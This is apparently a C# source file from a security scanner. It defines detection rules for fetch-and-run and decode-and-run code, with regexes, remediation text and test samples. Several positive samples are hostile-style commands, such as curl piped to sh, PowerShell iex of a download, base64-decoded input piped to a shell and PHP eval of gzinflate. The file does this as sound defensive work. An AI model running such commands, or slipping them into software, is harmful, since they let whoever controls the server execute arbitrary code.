using System.Collections.Immutable;
using ApprovalGuard.Detection.Privilege.Hosts;
using ApprovalGuard.Detection.Privilege.Patterns;
using ApprovalGuard.Findings;
using static ApprovalGuard.Detection.Privilege.Rules.Words;

namespace ApprovalGuard.Detection.Privilege.Rules;

/// <summary>Code that is fetched or decoded and then run, so that nobody can read here what will happen.</summary>
internal static class RemoteCodeRules
{
    private const string DecodesInScript = @"(?:window\.|globalThis\.|global\.|self\.)?(?:atob|unescape|decodeURIComponent|Buffer\.from|new\s+Buffer|String\.fromCharCode|LZString|pako|zlib)\b";
    private const string DecodesInPython = @"(?:base64\.|b64decode|b32decode|b85decode|a85decode|codecs\.decode|bytes\.fromhex|binascii\.|zlib\.decompress|gzip\.decompress|bz2\.decompress|lzma\.decompress|marshal\.loads|__import__\s*\(\s*['""](?:base64|zlib|marshal|codecs|binascii))";
    private const string FetchesInPython = @"(?:requests\.(?:get|post|request)|urlopen|urllib\d?\.|httpx\.(?:get|post)|http\.client)";

    /// <summary>How PHP takes in a file by its address.</summary>
    private static readonly ImmutableArray<string> RemoteIncludes =
        [.. from word in (string[])["include", "require", "include_once", "require_once"] from open in (string[])[" ", "(", " (", "( "] from quote in (string[])["\"", "'"] select $"{word}{open}{quote}http"];

    private static bool IsVerified(Hit hit) =>
        hit.Around(8) is var around && (around.Contains("sha256sum", StringComparison.Ordinal) || around.Contains("sha512sum", StringComparison.Ordinal) || around.Contains("shasum", StringComparison.Ordinal)
            || around.Contains("--verify", StringComparison.Ordinal) || around.Contains("cosign", StringComparison.Ordinal) || around.Contains("minisign", StringComparison.Ordinal));

    /// <summary>A file that is fetched and run has a name and often a check; only where it comes from is worth the question.</summary>
    private static Severity? JudgeFile(Hit hit)
    {
        foreach (var url in UrlReader.In(hit.Piece.Text, hit.Match.Index, hit.Match.Length))
        {
            if (url.Kind is HostKind.Address or HostKind.DropPlace || (url.IsInClear && url.Kind != HostKind.Inside))
            {
                return Severity.High;
            }

            if (Installers.IsKnown(hit.Piece.Text, url) || (hit.File.Is(FileRole.Pipeline | FileRole.Container) && (url.Host == "github.com" || IsVerified(hit))))
            {
                return null;
            }
        }

        return IsVerified(hit) ? null : Severity.Medium;
    }

    /// <summary>The rules.</summary>
    public static ImmutableArray<PatternRule> All { get; } =
    [
        Rule.Pattern("pipe-to-shell", Severity.High, "download piped into an interpreter", "https://cwe.mitre.org/data/definitions/494.html",
            "Whoever controls that server, or the way to it, runs what they like here, and can answer one machine differently from another.",
            "Fetch the file, compare its checksum with one that stands in the repository, and run it then.",
            new Form(Fetch + Arguments + @"(?:" + Pipe + @"(?:tee|gunzip|zcat|gzip|xz|bzip2|tr|sed|grep|awk|base64|tac|rev|openssl|cat|head|tail|cut|envsubst|dos2unix)\b(?>(?:[^|;&\n\\]+|\\[\s\S])*)){0,4}" + IntoInterpreter,
                "curl", "wget", "aria2c", "lynx", "fetch "),
            new Form(@"(?:" + Shell + @"|\bsource|\beval|\bpython[\d.]*|\bperl|\bruby|\bnode|\bphp|(?<=^|[\s;&|(""'])\.)\s+(?:-\w+\s+){0,3}\\?[""']?(?:<\(|\\?\$\(|`)\s*(?:sudo\s+)?(?:curl|wget)\s[^\n]{0,400}", "curl", "wget"),
            new Form(Shell + @"\s[^\n|;]{0,40}<<<\s*[""']?(?:\$\(|`)\s*(?:curl|wget)\s[^\n]{0,400}", "<<<"),
            new Form(@"(?i:(?:\biex\b|Invoke-Expression|\[scriptblock\]::Create)[^\n]{0,160}?(?:\biwr\b|\birm\b|\bcurl\b|\bwget\b|Invoke-WebRequest|Invoke-RestMethod|DownloadString|Net\.WebClient)[^\n]{0,300})",
                "iex", "Invoke-Expression", "[scriptblock]"),
            new Form(@"(?i:(?:\biwr\b|\birm\b|Invoke-WebRequest|Invoke-RestMethod|DownloadString)[^|\n]{0,400}\|\s*(?:iex\b|Invoke-Expression))", "iwr ", "irm ", "Invoke-WebRequest", "Invoke-RestMethod", "DownloadString"),
            new Form(@"(?i:\b(?:mshta|regsvr32|rundll32|msiexec|certutil)(?:\.exe)?\s[^\n]{0,120}?(?:https?:|scrobj)[^\n]{0,300})", "mshta", "regsvr32", "certutil", "msiexec", "rundll32")) with
        {
            Judge = Installers.JudgeRun,
            Positives =
            [
                new($"curl -s http://198.51.100.7/x | {"sh"}", "deploy/setup.sh"), new($"run: curl -fsSL https://get.tool.dev/i.sh | sudo -E {"bash"} -\n", ".github/workflows/ci.yml"),
                new($"wget -qO- \"https://tool.dev/i?a=1&b=2\" \\\n  | {"python3"} -", "scripts/install.sh"), new($"{"bash"} <(curl -fsSL https://tool.dev/install)", "Makefile"),
                new($"eval \"$(curl -fsSL https://tool.dev/env)\"", "setup.sh"), new($"os.system('curl https://tool.dev/x|{"sh"}')", "src/app.py"),
                new($"{"iex"} (iwr https://tool.dev/x.ps1)", "setup.ps1"), new($"irm https://tool.dev/x.ps1 | {"iex"}", "setup.ps1"), new($"RUN sh -c \"$(curl -fsSL https://sh.rustup.rs)\"", "Dockerfile"),
                new($"curl -sSf https://sh.rustup.rs | {"sh"} -s -- -y", "Dockerfile"),
            ],
            Negatives =
            [
                new("curl -s https://api.tool.dev/v1 | python3 -m json.tool", "deploy/setup.sh"), new("curl -s https://api.tool.dev/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'", "deploy/setup.sh"),
                new("curl -fsSL https://tool.dev/key.gpg | sudo apt-key add -", "deploy/setup.sh"), new("# curl https://tool.dev/i | sh", "deploy/setup.sh"), new("curl https://tool.dev/i | sh", "README.md"),
                new("curl -L https://tool.dev/x.tgz | tar xz", "Makefile"), new("version=$(curl -s https://tool.dev/latest | grep sha)", "Makefile"), new("// curl https://tool.dev | sh", "src/app.ts"),
                new("curl -s https://tool.dev/list | xargs -n1 shasum", "build.sh"),
            ],
        },
        Rule.Pattern("download-then-run", Severity.Medium, "downloaded file is run", "https://cwe.mitre.org/data/definitions/494.html",
            "Whoever controls that server, or the way to it, runs what they like here; nothing compares the file with what was meant.",
            "Compare its checksum with one that stands in the repository before it runs.",
            new Form(Fetch + @"[^\n|;&]{0,300}?(?:-o|-O|--output(?:-document)?[= ]|>)\s*[""']?(?<f>[\w./~${}\-]{2,80})[""']?(?=[\s;&)""'])(?:(?!\k<f>)[\s\S]){0,700}?\bchmod\s[^\n;&]{0,40}?(?:\+x|[0-7]?[1357][0-7]{2})\b[^\n;&]{0,80}?\k<f>(?:(?!\k<f>)[\s\S]){0,500}?(?:^|[;&|(]|&&|\bsudo|\brun:|\bRUN)\s*(?:\./)?[""']?\k<f>(?![\w.])",
                "curl", "wget") { Below = 10 },
            new Form(Fetch + @"[^\n|;&]{0,300}?(?:-o|-O|--output(?:-document)?[= ]|>)\s*[""']?(?<f>[\w./~${}\-]{2,80})[""']?(?=[\s;&)""'])(?:(?!\k<f>)[\s\S]){0,500}?(?:^|[;&|(]|&&|\bsudo|\brun:|\bRUN)\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh|python[\d.]*|perl|ruby|node|source|\.)\s+(?:-\w+\s+){0,3}[""']?(?:\./)?\k<f>(?![\w.])",
                "curl", "wget") { Below = 6 },
            new Form(@"(?i:(?:Invoke-WebRequest|iwr|DownloadFile)\b[^\n]{0,300}?(?<f>[\w\-]{2,40}\.(?:exe|msi|ps1|bat))[^\n]{0,40}[\s\S]{0,400}?(?:Start-Process|&|\bmsiexec\b|^\s*\.[\\/])[^\n]{0,80}?\k<f>)", "Invoke-WebRequest", "iwr ", "DownloadFile") { Below = 8 }) with
        {
            Judge = JudgeFile,
            Where = FileRole.Shell | FileRole.Container | FileRole.Pipeline | FileRole.Code | FileRole.Instructions,
            Positives =
            [
                new("curl -fsSL https://tool.dev/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon\n", "deploy/setup.sh"), new("wget -q https://tool.dev/install.sh -O install.sh && bash install.sh", "deploy/setup.sh"),
            ],
            Negatives =
            [
                new("curl -fsSL https://tool.dev/agent -o agent\necho \"$SUM  agent\" | sha256sum -c\nchmod +x agent\n./agent\n", "deploy/setup.sh"), new("curl -o data.json https://api.tool.dev/v1\nnode build.js data.json\n", "deploy/setup.sh"),
            ],
        },
        Rule.Pattern("eval-of-download", Severity.High, "fetched text is run as code", "https://cwe.mitre.org/data/definitions/95.html",
            "Whoever controls that server, or the way to it, runs what they like with the rights of this program.", "Ship the code with the program, or fetch data and parse it.",
            new Form(@"\b(?:eval|exec|compile|execfile)\s*\(\s*(?:compile\s*\(\s*)?[^\n]{0,80}?" + FetchesInPython, "eval(", "exec(", "execfile("),
            new Form(@"\b(?:eval|Function|execScript|runInThisContext|runInNewContext|runInContext)\s*\(\s*(?:await\s*\(?\s*){0,2}\(?\s*(?:await\s+)?(?:fetch|axios|got|superagent|request|https?\.get|\$\.get)\b", "eval(", "Function(", "execScript", "runIn"),
            new Form(@"(?:fetch|axios|got|request|\.get)\s*\([^\n]{0,200}?\.then\s*\(\s*(?:eval\b|\(?\w*\)?\s*=>\s*(?:eval|new\s+Function)\s*\()", ".then("),
            new Form(@"\bimport\s*\(\s*(?:/\*[^*\n]{0,60}\*/\s*)?[""'`]https?://", "import("),
            new Form(@"(?:eval|assert)\s*\(\s*(?:[""']\?>[""']\s*\.\s*)?@?(?:file_get_contents|curl_exec)\s*\(", "file_get_contents", "curl_exec"),
            new Form(@"\b(?:include|require)(?:_once)?\s?\(?\s?[""']https?://", RemoteIncludes),
            new Form(@"\b(?:eval|instance_eval|class_eval|module_eval)\s*\(?\s*(?:URI[\w.(""':/\-)]{0,200}?\.(?:open|read)|open\s*\(?\s*[""']https?:|Net::HTTP\.get)", "URI.open", "URI.parse", "URI(", "open(", "Net::HTTP"),
            new Form(@"\bAssembly\s*\.\s*Load\s*\([^\n]{0,120}?(?:Download|GetByteArray|HttpClient|WebClient)|\bURLClassLoader\s*\([^\n]{0,160}?[""']https?:", "Assembly", "URLClassLoader"),
            new Form(@"exec\.Command\s*\(\s*""(?:/bin/)?(?:ba)?sh""\s*,\s*""-c""\s*,\s*string\s*\(\s*(?:body|resp|data|content|b|out)\w*\b", "exec.Command"),
            new Form(@"\b(?:loadstring|load)\s*\(\s*(?:game:HttpGet|http\.request|https\.request)", "loadstring", "load(http", "load(game"),
            new Form(@"\beval\s*\(?\s*(?:get|LWP::Simple::get)\s*\(?\s*[""']https?:", "eval get", "eval(get", "eval LWP", "eval(LWP")) with
        {
            Where = FileRole.Code | FileRole.Page | FileRole.Shell | FileRole.Container | FileRole.Pipeline | FileRole.Config | FileRole.Instructions,
            Positives =
            [
                new($"{"exec"}(requests.get(URL).text)", "src/app.py"), new($"{"eval"}(await (await fetch(url)).text());", "src/app.ts"), new($"fetch(url).then(r => r.text()).then({"eval"})", "src/app.js"),
                new($"{"eval"}('?>' . file_get_contents($url));", "src/app.php"), new($"const m = await import(\"{"https"}://cdn.tool.dev/m.js\")", "src/app.ts"),
            ],
            Negatives = [new("data = json.loads(requests.get(URL).text)", "src/app.py"), new("const m = await import(\"./module.js\")", "src/app.ts"), new("$json = json_decode(file_get_contents($url));", "src/app.php")],
        },
        Rule.Pattern("eval-of-encoded", Severity.High, "encoded text is run as code", "https://cwe.mitre.org/data/definitions/506.html",
            "A reader cannot see what runs here; that is the usual reason to write it so.", "Write the code out, or drop it.",
            new Form(@"\b(?:eval|Function|execScript|setTimeout|runInThisContext|runInNewContext)\s*\(\s*" + DecodesInScript, "eval(", "Function(", "execScript", "setTimeout(", "runIn"),
            new Form(@"\b(?:exec|eval|compile)\s*\(\s*(?:[\w.]{1,30}\(\s*){0,4}" + DecodesInPython, "exec(", "eval(", "compile("),
            new Form(@"(?:\beval|\bassert|create_function)\s*\(\s*(?:@?\w+\(\s*){0,4}(?:base64_decode|gzinflate|gzuncompress|str_rot13|hex2bin|convert_uudecode)\s*\(", "base64_decode", "gzinflate", "gzuncompress", "str_rot13", "hex2bin", "convert_uudecode"),
            new Form(@"\b(?:eval|instance_eval|class_eval)\s*\(?\s*(?:Base64\.|Zlib|\[[^\]\n]{0,2000}\]\.pack|[""'][^""'\n]{0,2000}[""']\.unpack)", "Base64.", "Zlib", ".pack", ".unpack"),
            new Form(@"\beval\s*\(?\s*(?:decode_base64|unpack|pack|MIME::Base64)\b", "decode_base64", "unpack", "MIME::Base64"),
            new Form(@"\bbase64\s+(?:-d|-D|-di|--decode)\b[^|\n]{0,120}(?:\|\s*(?:gunzip|zcat|gzip|xz|rev|tr|sed)\b[^|\n]{0,80}){0,3}" + IntoInterpreter, "base64"),
            new Form(@"(?:\bxxd\s+-\w*r\w*|\bopenssl\s+(?:enc|base64|aes\S*)\s[^|\n]{0,200}-d\b)[^|\n]{0,200}(?:\|\s*(?:gunzip|zcat|gzip|xz|base64)\b[^|\n]{0,80}){0,3}" + IntoInterpreter, "xxd", "openssl"),
            new Form(@"(?:\beval|" + Shell + @"\s+-c|" + Shell + @"\s*<<<)\s+[""']?(?:\$\(|`)\s*(?:(?:echo|printf)\s[^\n]{0,2000}?\|\s*)?(?:base64\s+-[dD]|base64\s+--decode|xxd\s+-r|openssl\s[^\n]{0,60}-d|rev\b)", "base64", "xxd", "openssl", "| rev"),
            new Form(@"(?:\$\(|`|<\()\s*base64\s+(?:-d|-D|--decode)[^\n]{0,200}", "bash <(base64", "sh <(base64", "eval $(base64", "eval `base64", "source <(base64"),
            new Form(@"(?i:\bp(?:ower)?w?sh(?:ell)?(?:\.exe)?\s[^\n]{0,160}?-e(?:nc?|ncodedc\w*|c)?\s+[""']?[A-Za-z0-9+/]{20,}={0,2})", "powershell", "pwsh"),
            new Form(@"(?i:(?:\biex\b|Invoke-Expression|Assembly\]?::?Load)[^\n]{0,120}?FromBase64String|FromBase64String[^\n]{0,400}\|\s*(?:iex\b|Invoke-Expression))", "FromBase64String")) with
        {
            Positives =
            [
                new($"{"eval"}(atob(\"YWxlcnQoMSk=\"))", "src/app.js"), new($"{"exec"}(zlib.decompress(base64.b64decode(DATA)))", "src/app.py"), new($"echo aWQK | base64 -d | {"sh"}", "deploy/setup.sh"),
                new($"{"eval"} \"$(echo aWQK | base64 --decode)\"", "deploy/setup.sh"), new($"<?php {"eval"}(gzinflate(base64_decode($x)));", "src/app.php"),
                new($"powershell -NoP -{"enc"} SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "deploy/setup.cmd"),
            ],
            Negatives =
            [
                new("echo \"$KEYSTORE\" | base64 -d > release.jks", "deploy/setup.sh"), new("exec(open('version.py').read())", "setup.py"), new("const text = atob(value)", "src/app.js"), new("eval \"$(ssh-agent -s)\"", "deploy/setup.sh"),
            ],
        },
    ];
}
